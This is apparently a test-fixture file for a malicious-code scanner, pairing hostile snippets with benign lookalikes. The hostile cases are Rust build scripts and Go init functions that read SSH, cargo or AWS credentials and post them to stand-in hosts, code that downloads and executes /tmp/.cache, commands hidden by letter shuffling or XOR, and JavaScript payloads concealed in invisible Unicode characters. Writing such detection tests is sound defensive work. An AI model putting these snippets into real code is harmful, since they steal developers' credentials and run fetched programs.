// Sources that act when they are built or imported, and texts that nobody sees.
import type { FileFacts } from '../../../src/file/facts.ts'
import { type FactCases, scripted } from './case.ts'

const go = (...lines: readonly string[]): Partial<FileFacts> => scripted('source', lines.join('\n'))
const build = (text: string): Partial<FileFacts> => ({
  ...scripted('source', text),
  path: 'a.crate/a.tar/a-1.0.0/build.rs',
})
const READS = 'let k = std::fs::read_to_string(home.join(".ssh/id_ed25519")).unwrap_or_default();'
const SENDS = 'let _ = ureq::post("https://collect.example/c").send_string(&k);'
const DROPS = [
  'r, _ := http.Get(u); b, _ := io.ReadAll(r.Body)',
  'os.WriteFile("/tmp/.cache", b, 0755)',
  'exec.Command("/tmp/.cache").Start()',
]
const SPELLS = 'for _, c := range []string{"h", "t", "t", "p", "s", ":", "/", "/", "x", ".", "y"} { u += c }'

const selectors = (text: string): string =>
  [...Buffer.from(text)].map((byte) => String.fromCodePoint(byte < 16 ? 0xfe00 + byte : 0xe0100 + byte - 16)).join('')
const tags = (text: string): string =>
  [...text].map((one) => String.fromCodePoint(0xe0000 + (one.codePointAt(0) ?? 0))).join('')
const CODE = "require('child_process').exec('id')"

export const BUILDERS: FactCases = {
  source_robs_its_builder: {
    hits: {
      'a build that posts a key': build(`fn main() { ${READS} ${SENDS} }`),
      'a macro of a compiler that sends one': scripted(
        'source',
        '#[proc_macro_derive(Yaml)]\npub fn yaml(i: TokenStream) -> TokenStream {\n  let k = std::fs::read_to_string(home + "/.cargo/credentials"); let mut s = std::net::TcpStream::connect("203.0.113.7:443"); s.write_all(k)\n}',
      ),
      'an import that posts one': go(
        'func init() {',
        '  k, _ := os.ReadFile(home + "/.aws/credentials")',
        '  http.Post("https://collect.example", "text/plain", bytes.NewReader(k))',
        '}',
      ),
    },
    misses: {
      'a package whose beginning only sets something': go(
        'func init() { http.DefaultClient.Timeout = 0 }',
        'func Upload(u string) error {',
        '  k, _ := os.ReadFile(home + "/.ssh/id_ed25519.pub")',
        '  _, err := http.Post(u, "text/plain", bytes.NewReader(k)); return err',
        '}',
      ),
      'a client that is called': scripted('source', `fn upload() { ${READS} ${SENDS} }`),
      'a build that compiles': build(
        'fn main() { cc::Build::new().file("a.c").compile("a"); for (k, v) in env::vars() { println!("{k}"); } }',
      ),
      'a build that reports its version': build(
        'fn main() { let v = env!("CARGO_PKG_VERSION"); ureq::post("https://stats.example").send_string(v); }',
      ),
    },
  },
  source_drops_fetched_program: {
    hits: {
      'on import, from a spelled address': go('func init() {', SPELLS, ...DROPS, '}'),
      'by a value of the package': go('var ready = setup()', 'func setup() bool {', SPELLS, ...DROPS, 'return true }'),
    },
    misses: {
      'an updater that is called': go('func Update(u string) {', ...DROPS, '}'),
      'beside itself': go(
        'func init() {',
        SPELLS,
        ...DROPS.map((line) => line.replaceAll('/tmp/.cache', 'bin/tool')),
        '}',
      ),
      'a download that is read': go('func init() {', SPELLS, DROPS[0] ?? '', '}'),
    },
  },
  source_starts_what_it_spells: {
    hits: {
      'places of a list': go(
        'var ok = run()',
        'func run() error { c := d[5] + d[6] + d[1] + d[3] + d[2] + d[8] + d[7]; return exec.Command("sh", "-c", c).Start() }',
      ),
      'letters XORed in a build': build(
        'fn main() { let c: String = K.iter().map(|b| (b ^ 0x2f) as char).collect(); Command::new("sh").arg("-c").arg(c).spawn(); }',
      ),
    },
    misses: {
      'a command that is called': go(
        'func Run() error { c := d[5] + d[6] + d[1] + d[3] + d[2] + d[8]; return exec.Command("sh", "-c", c).Start() }',
      ),
      'a table that starts nothing': go('func init() {', SPELLS, '}'),
      'a build that starts a compiler': build('fn main() { Command::new("cmake").arg("-S.").status(); }'),
    },
  },
  script_hides_text_in_invisible_signs: {
    hits: {
      'a program in selectors': scripted('javascript', `eval(decode(\`${selectors(CODE)}\`))`),
      'a program in tags': scripted('javascript', `run("${tags(CODE)}")`),
    },
    misses: {
      'emoji with their selectors': scripted('javascript', 'eval("1"); show("❤️⚡️🏷️👩‍💻🏳️‍🌈")'),
      'the flag of a region': scripted('javascript', `eval("1"); show("🏴${tags('gbeng')}\u{e007f}")`),
      'letters joined and parted': scripted('javascript', 'eval("1"); show("می‌خواهم کتاب‌ها")'),
    },
  },
}
